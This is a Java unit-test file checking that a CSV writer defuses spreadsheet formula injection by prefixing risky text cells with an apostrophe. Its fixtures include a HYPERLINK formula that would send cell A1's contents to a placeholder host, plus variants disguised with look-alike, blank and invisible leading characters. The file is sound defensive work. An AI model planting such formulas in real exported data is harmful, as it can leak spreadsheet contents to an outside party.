package org.accords.graphql;

import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.List;

import org.junit.jupiter.api.Test;
import tools.jackson.databind.SequenceWriter;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The copy for spreadsheets: a text cell that Excel, LibreOffice or Google Sheets would
 * run as a formula (OWASP "CSV Injection") is led by an apostrophe, whether the cells are
 * defused as they are written (the downloads) or in a CSV already written (a GraphQL CSV
 * answer); numbers and every other cell stay as they are.
 */
class CsvRowsTests {

	static final List<String> COLUMNS = List.of("id", "text", "amount", "note");

	static final List<Object[]> ROWS = List.of(
			new Object[] { "U3RhdGVtZW50OjE=", "=HYPERLINK(\"http://example.test/?d=\"&A1,\"Read the memo\")",
					new BigDecimal("-12.5"), "-12.5" },
			new Object[] { "U3RhdGVtZW50OjI=", "-20 degrees did not stop the crews, \"we kept going\"", 3, null },
			new Object[] { "U3RhdGVtZW50OjM=", "+380 44 000 0000", null, "@ministry on the record" },
			new Object[] { "U3RhdGVtZW50OjQ=", "\tindented, and\r\nmultiline", 7, "\rcarriage" },
			new Object[] { "U3RhdGVtZW50OjU=", "Plain words; a - in the middle = fine", 0, "" },
			new Object[] { "U3RhdGVtZW50OjY=", "", 1, "-" });

	static String written(List<Object[]> rows) throws Exception {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (SequenceWriter writer = CsvRows.open(COLUMNS, out)) {
			for (Object[] row : rows) {
				writer.write(row);
			}
		}
		return out.toString(StandardCharsets.UTF_8);
	}

	/**
	 * The CSV of {@code rows} defused after it is written, checked to be the CSV of the
	 * rows each defused as it is written.
	 */
	static String defusedAsItsRowsWouldBe(List<Object[]> rows) throws Exception {
		String defused = new String(CsvRows.defused(written(rows).getBytes(StandardCharsets.UTF_8)),
				StandardCharsets.UTF_8);
		assertThat(defused).isEqualTo(written(rows.stream().map(CsvRows::defused).toList()));
		return defused;
	}

	@Test
	void aTextCellThatWouldRunAsAFormulaIsLedByAnApostropheAndNumbersAreNot() {
		assertThat(CsvRows.defused(ROWS.get(0))).containsExactly("U3RhdGVtZW50OjE=",
				"'=HYPERLINK(\"http://example.test/?d=\"&A1,\"Read the memo\")", new BigDecimal("-12.5"), "-12.5");
		assertThat(CsvRows.defused(ROWS.get(1))).containsExactly("U3RhdGVtZW50OjI=",
				"'-20 degrees did not stop the crews, \"we kept going\"", 3, null);
		assertThat(CsvRows.defused(ROWS.get(2))).containsExactly("U3RhdGVtZW50OjM=", "'+380 44 000 0000", null,
				"'@ministry on the record");
		assertThat(CsvRows.defused(ROWS.get(3))).containsExactly("U3RhdGVtZW50OjQ=", "'\tindented, and\r\nmultiline", 7,
				"'\rcarriage");
		assertThat(CsvRows.defused(ROWS.get(4))).as("nothing to defuse: the same row").isSameAs(ROWS.get(4));
		assertThat(CsvRows.defused(ROWS.get(5))).containsExactly("U3RhdGVtZW50OjY=", "", 1, "'-");
	}

	@Test
	void aCsvAlreadyWrittenIsDefusedCellByCellAsItsRowsWouldHaveBeen() throws Exception {
		String plain = written(ROWS);
		String defused = new String(CsvRows.defused(plain.getBytes(StandardCharsets.UTF_8)), StandardCharsets.UTF_8);
		assertThat(defused).isEqualTo(written(ROWS.stream().map(CsvRows::defused).toList()));
		assertThat(defused).contains("\"'=HYPERLINK(\"\"http://example.test/?d=\"\"&A1,\"\"Read the memo\"\")\"")
			.contains(",-12.5,-12.5\r\n")
			.contains(",'@ministry on the record\r\n");
	}

	@Test
	void aCellLedByAFullWidthFormulaSignIsDefusedToo() throws Exception {
		// some East Asian versions of Excel read the full-width signs as their ASCII ones
		List<Object[]> rows = List.of(
				new Object[] { "U3RhdGVtZW50Ojc=", "\uFF1DHYPERLINK(\"http://example.test/\",\"memo\")", 2,
						"\uFF20ministry, \"on the record\"" },
				new Object[] { "U3RhdGVtZW50Ojg=", "\uFF0B380 44 000 0000", 3, "\uFF0D12.5" },
				new Object[] { "U3RhdGVtZW50Ojk=", "Talks went on \uFF1D no deal", 4, "" });
		assertThat(CsvRows.defused(rows.get(0))).containsExactly("U3RhdGVtZW50Ojc=",
				"'\uFF1DHYPERLINK(\"http://example.test/\",\"memo\")", 2, "'\uFF20ministry, \"on the record\"");
		assertThat(CsvRows.defused(rows.get(1))).as("a full-width sign leads text, never a number")
			.containsExactly("U3RhdGVtZW50Ojg=", "'\uFF0B380 44 000 0000", 3, "'\uFF0D12.5");
		assertThat(CsvRows.defused(rows.get(2))).as("only a leading sign counts").isSameAs(rows.get(2));
		defusedAsItsRowsWouldBe(rows);
	}

	@Test
	void aCellLedByASmallFormSignTheMinusSignALineFeedOrANulIsDefusedToo() throws Exception {
		// the small forms of = + - @ (U+FE66, U+FE62, U+FE63, U+FE6B) and the minus sign
		// (U+2212) are look-alikes of the signs; OWASP ASVS 1.2.10 lists the NUL; a line
		// feed leads a cell as a carriage return does
		List<Object[]> rows = List.of(
				new Object[] { "U3RhdGVtZW50OjEw", "\uFE66HYPERLINK(\"http://example.test/\",\"memo\")", 2,
						"\uFE6Bministry, \"on the record\"" },
				new Object[] { "U3RhdGVtZW50OjEx", "\uFE62380 44 000 0000", 3, "\uFE6312.5" },
				new Object[] { "U3RhdGVtZW50OjEy", "\u221220 degrees, \"we kept going\"", 4, "\u221212.5" },
				new Object[] { "U3RhdGVtZW50OjEz", "\n=1+2", 5, "\u0000=1+2" },
				new Object[] { "U3RhdGVtZW50OjE0", "Talks went on \uFE66 no deal \u2212 none", 6, "" });
		assertThat(CsvRows.defused(rows.get(0))).containsExactly("U3RhdGVtZW50OjEw",
				"'\uFE66HYPERLINK(\"http://example.test/\",\"memo\")", 2, "'\uFE6Bministry, \"on the record\"");
		assertThat(CsvRows.defused(rows.get(1))).as("a small sign leads text, never a number")
			.containsExactly("U3RhdGVtZW50OjEx", "'\uFE62380 44 000 0000", 3, "'\uFE6312.5");
		assertThat(CsvRows.defused(rows.get(2))).as("numbers this writes have an ASCII sign")
			.containsExactly("U3RhdGVtZW50OjEy", "'\u221220 degrees, \"we kept going\"", 4, "'\u221212.5");
		assertThat(CsvRows.defused(rows.get(3))).containsExactly("U3RhdGVtZW50OjEz", "'\n=1+2", 5, "'\u0000=1+2");
		assertThat(CsvRows.defused(rows.get(4))).as("only a leading sign counts").isSameAs(rows.get(4));
		defusedAsItsRowsWouldBe(rows);
	}

	@Test
	void aCellLedByBlanksBeforeAFormulaSignIsDefusedToo() throws Exception {
		// a spreadsheet (or an import that trims spaces) skips the blanks that lead a
		// cell
		// before it decides on a formula: spaces, a no-break space (U+00A0), the narrow
		// and
		// ideographic spaces (U+202F, U+3000), tabs after spaces, an invisible zero-width
		// space (U+200B)
		List<Object[]> rows = List.of(
				new Object[] { "U3RhdGVtZW50OjE1", "  =HYPERLINK(\"http://example.test/\",\"memo\")", 2,
						"\u00A0@ministry, \"on the record\"" },
				new Object[] { "U3RhdGVtZW50OjE2", " \t+380 44 000 0000", 3, "\u202F\u3000-1+2" },
				new Object[] { "U3RhdGVtZW50OjE3", "\u200B=1+2", 4, " \uFF1D1+2" },
				new Object[] { "U3RhdGVtZW50OjE4", "  Talks went on = no deal", 5, "  " },
				new Object[] { "U3RhdGVtZW50OjE5", " -12.5", 6, "\u00A0" });
		assertThat(CsvRows.defused(rows.get(0))).containsExactly("U3RhdGVtZW50OjE1",
				"'  =HYPERLINK(\"http://example.test/\",\"memo\")", 2, "'\u00A0@ministry, \"on the record\"");
		assertThat(CsvRows.defused(rows.get(1))).containsExactly("U3RhdGVtZW50OjE2", "' \t+380 44 000 0000", 3,
				"'\u202F\u3000-1+2");
		assertThat(CsvRows.defused(rows.get(2))).containsExactly("U3RhdGVtZW50OjE3", "'\u200B=1+2", 4, "' \uFF1D1+2");
		assertThat(CsvRows.defused(rows.get(3))).as("blanks before words, or only blanks: no formula")
			.isSameAs(rows.get(3));
		assertThat(CsvRows.defused(rows.get(4))).as("a number this writes has no blank before it: text")
			.containsExactly("U3RhdGVtZW50OjE5", "' -12.5", 6, "\u00A0");
		String defused = defusedAsItsRowsWouldBe(rows);
		assertThat(defused).contains(",\"'  =HYPERLINK(\"\"http").contains(",' \t+380 44 000 0000,");
	}

	@Test
	void aCellLedByInvisibleOrBidiCharactersBeforeAFormulaSignIsDefusedToo() throws Exception {
		// a spreadsheet shows nothing for a format character (a bidi override, embedding
		// or
		// isolate, a zero-width joiner or mark, the word joiner, a soft hyphen, a tag
		// character), so the cell reads as starting with the sign that follows them
		String[] invisibles = { "\u202E", "\u202A", "\u202B", "\u202C", "\u202D", "\u2066", "\u2067", "\u2068",
				"\u2069", "\u200B", "\u200C", "\u200D", "\u200E", "\u200F", "\u2060", "\u00AD", "\uFEFF",
				"\uDB40\uDC01" };
		for (String invisible : invisibles) {
			String code = "U+%04X".formatted(invisible.codePointAt(0));
			Object[] row = { "U3RhdGVtZW50OjIw", invisible + "=HYPERLINK(\"http://example.test/\",\"memo\")", 2,
					invisible + " " + invisible + "-12.5" };
			assertThat(CsvRows.defused(row)).as(code)
				.containsExactly("U3RhdGVtZW50OjIw", "'" + invisible + "=HYPERLINK(\"http://example.test/\",\"memo\")",
						2, "'" + invisible + " " + invisible + "-12.5");
			Object[] words = { "U3RhdGVtZW50OjIx", invisible + "Talks went on = no deal", 3, invisible };
			assertThat(CsvRows.defused(words)).as(code + " before words, or alone: no formula").isSameAs(words);
			defusedAsItsRowsWouldBe(List.of(row, words));
		}
	}

	@Test
	void aCsvWithNothingToDefuseIsTheSameBytes() throws Exception {
		byte[] plain = written(List.of(ROWS.get(4), new Object[] { "a", "Kasčiūnas said \"yes\"", -4, null }))
			.getBytes(StandardCharsets.UTF_8);
		assertThat(CsvRows.defused(plain)).isSameAs(plain);
	}

}
